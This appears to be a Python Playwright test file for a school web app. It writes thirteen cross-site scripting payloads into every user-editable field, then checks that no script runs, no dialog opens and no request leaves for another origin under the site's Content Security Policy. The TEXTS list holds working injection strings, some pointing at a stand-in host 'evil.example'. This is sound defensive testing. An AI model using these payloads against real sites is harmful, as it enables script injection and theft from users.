"""Promise 41: what people write is text. Thirteen scripts in every field that is shown, in a real browser, under our CSP.

Each page is then asked: did a dialog open, did anything run, did a request leave for another origin?
"""

import asyncio
import itertools
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

import migrated
import pytest
from cast import SECRET_KEY, World, make_world
from e2e_site import ROOT, Serving, Site, open_page, settle
from operations import Cast, one_of_everything
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request
from sqlmodel import select

from app.cover.tables import CoverSlot
from app.fair.tables import Finding, FindingReaction
from app.identity.tables import School, SignInSession, Staff, Trust
from app.kernel.actor import NOBODY
from app.occupied.tables import Occupied
from app.plc.tables import PlcGroup
from app.school_year.tables import SchoolDay, SchoolYear
from app.settings import Settings
from app.study.tables import StudyRound
from app.timetable.tables import Lesson, Mark

pytestmark = pytest.mark.browser

TEXTS = [
    "<script>ran()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ran()>",
    "<img src=//evil.example/x.png onerror=ran()>",
    "<svg onload=ran()>",
    '"><script>ran()</script>',
    "' onfocus=ran() autofocus x='",
    "</title><script>ran()</script>",
    "</textarea><iframe srcdoc='<script>parent.ran()</script>'>",
    "[x](javascript:ran()) javascript:ran()//",
    "<a href=javascript:ran()>x</a><style>@import '//evil.example/ran().css'</style>",
    "{{constructor.constructor('ran()')()}} ${ran()} <%= ran() %>",
    "<base href=//evil.example/ran()><meta http-equiv=refresh content='0;url=//evil.example/ran()'>",
]
ALL = "\n\n".join(TEXTS)
LONG = {
    "background",
    "aims",
    "methods",
    "findings",
    "implications",
    "next_time",
    "protocol",
    "research_theme",
    "eef_goal",
}
FIELDS: dict[type, tuple[str, ...]] = {
    School: ("name",),
    Trust: ("name",),
    Staff: ("name", "code", "department"),
    SignInSession: ("device",),
    PlcGroup: ("name", "focus", "research_theme", "eef_goal", "protocol"),
    StudyRound: ("focus", "class_name", "subject", "room", "debrief_place"),
    CoverSlot: ("class_name", "subject", "room"),
    Finding: ("title", "pull_quote", "focus", "subject", "group_name", "school_name", *sorted(LONG - {"protocol", "research_theme", "eef_goal"})),
    FindingReaction: ("text", "by_name", "school_name"),
    Occupied: ("label",),
    Lesson: ("class_name", "subject", "room"),
    Mark: ("note",),
    SchoolDay: ("note",),
    SchoolYear: ("name",),
}  # fmt: skip
"""Where people, or their timetable files, write. Names that a timetable matches by stand as they are."""


@dataclass
class Watch:
    """What must not happen on any page of a browser."""

    origin: str
    context: BrowserContext
    seen: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.expose_function("ran", lambda *_: self.seen.append("a script ran"))
        self.context.on("request", self._request)
        self.context.on("dialog", self._dialog)

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.origin + "/", "data:", "blob:", "about:")):
            self.seen.append(f"a request to {request.url}")

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append("a dialog opened")
        dialog.dismiss()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """On SQLite alone: what a page does with a text does not depend on where the text was kept."""
    url = migrated.sqlite(tmp_path_factory.mktemp("xss"))
    with Serving(Settings(database_url=url, secret_key=SECRET_KEY, frontend=str(ROOT / "frontend" / "dist"))) as one:
        yield one


@pytest.fixture(scope="module")
def hostile(site: Site) -> tuple[World, dict[str, str]]:
    """Birch School, in which everybody writes scripts wherever there is room for a word."""
    made: list[tuple[World, dict[str, str]]] = []

    async def build() -> None:
        world = make_world(site.app)
        people = Cast(world.hana, world.amina, world.ben, world.chloe, world.frank)
        made.append((world, await one_of_everything(world, people, word="x", fair_word="y")))

    # In a thread of its own: the browser's driver has the event loop of this one.
    thread = threading.Thread(target=lambda: asyncio.run(build()))
    thread.start()
    thread.join()
    deface(made[0][0])
    return made[0]


def deface(world: World) -> None:
    """Write a script into every field of FIELDS, another one each time; all of them where there is room."""
    texts = itertools.cycle(TEXTS)
    for scope in (world.hana.scope, NOBODY):
        with world.database.writing(scope) as session:
            for cls, names in FIELDS.items():
                if hasattr(cls, "school_id") == (scope == NOBODY) and cls is not SignInSession:
                    continue
                for row in session.exec(select(cls)).all():
                    for name in names:
                        setattr(row, name, ALL if name in LONG else next(texts))
                    if isinstance(row, Finding):
                        row.author_names = json.dumps(TEXTS)
                    if isinstance(row, Staff):
                        row.code = f"{row.code} {row.id}"[:200]


def visit(browser: Browser, site: Site, secret: str | None) -> tuple[Page, Watch]:
    page = open_page(browser, site)
    watch = Watch(site.url, page.context)
    if secret is not None:
        page.context.add_cookies([{
            "name": "__Host-kenkyu", "value": secret, "url": site.url.replace("http:", "https:"), "secure": True,
            "httpOnly": True, "sameSite": "Lax",
        }])  # fmt: skip
    return page, watch


PUBLIC = ["/fair", "/fair/{open_finding}"]
TEACHERS = ["/", "/time", "/group", "/group/{group}", "/group/{group}/findings", "/plan", "/round/{round}", "/fair",
            "/fair/{open_finding}", "/findings/{draft}/edit", "/sessions"]  # fmt: skip
LEADS = ["/desk", "/desk/unplaced", "/desk/people/{staff}", "/cover", "/school/people", "/school/people/{staff}",
         "/school/calendar", "/school/settings", "/school/timetable", "/school/timetable/import/{import}",
         "/school/people/{staff}/timetable"]  # fmt: skip
MAY_BE_PLAIN = {"/plan", "/school/timetable", "/school/timetable/import/{import}"}
"""Pages on which nothing that people wrote need stand."""
SHOWN = """() => document.body.innerText
    + [...document.querySelectorAll('input, textarea')].map(one => one.value).join()"""


@pytest.mark.parametrize("who", ["nobody", "amina", "hana"])
def test_nothing_that_people_wrote_runs_on_any_page(
    who: str, site: Site, browser: Browser, hostile: tuple[World, dict[str, str]]
) -> None:
    """Take out: write one text with dangerouslySetInnerHTML in the frontend AND script-src of the policy in
    web/headers.py (each alone holds); `_safe` in feeds/page.py."""
    world, things = hostile
    page, watch = visit(browser, site, None if who == "nobody" else world.people[who].secret)
    plain = []
    for path in {"nobody": PUBLIC, "amina": TEACHERS, "hana": LEADS}[who]:
        page.goto(path.format(**things))
        settle(page)
        shown = page.evaluate(SHOWN)
        until = time.monotonic() + 20  # A busy machine may be quiet between the page's own parts and what it asks for.
        while "ran()" not in shown and path not in MAY_BE_PLAIN and time.monotonic() < until:
            page.wait_for_timeout(200)
            shown = page.evaluate(SHOWN)
        assert "There is no such page" not in shown, path
        if "ran()" not in shown and path not in MAY_BE_PLAIN:
            plain.append(path)
    page.context.close()

    assert watch.seen == []
    assert plain == [], "pages on which none of the texts stands prove nothing"


# ---- the watch itself, and the last line of defence --------------------------------------------------------


@pytest.fixture
def watched(site: Site, browser: Browser) -> Iterator[tuple[Page, Watch]]:
    page, watch = visit(browser, site, None)
    yield page, watch
    page.context.close()


def test_the_watch_sees_a_script_a_dialog_and_a_request(watched: tuple[Page, Watch]) -> None:
    """Without this the pages above would prove nothing."""
    page, watch = watched

    page.set_content("<img src='data:,' onerror='ran()'><script>alert(1)</script><img src='http://127.0.0.1:9/x.png'>")
    page.wait_for_timeout(300)

    assert {one.split(" to ")[0] for one in watch.seen} == {"a script ran", "a dialog opened", "a request"}


def test_even_a_text_that_were_taken_for_a_page_could_neither_run_nor_leave(watched: tuple[Page, Watch]) -> None:
    """Take out: script-src or img-src of the policy in web/headers.py."""
    page, watch = watched
    page.goto("/fair")
    settle(page)
    refused: list[str] = page.evaluate(
        """async texts => {
            const refused = [];
            document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));
            for (const text of texts) {
                const box = document.body.appendChild(document.createElement('div'));
                box.innerHTML = text;
                for (const link of box.querySelectorAll('a')) link.click();
            }
            const script = document.body.appendChild(document.createElement('script'));
            script.textContent = 'ran()';
            await new Promise(done => setTimeout(done, 300));
            return refused;
        }""",
        [text for text in TEXTS if "<base" not in text],
    )

    assert [one for one in watch.seen if one == "a script ran" or "dialog" in one] == []
    assert {"img-src", "script-src-elem", "script-src-attr"} <= set(refused)
    assert page.url.startswith(watch.origin)
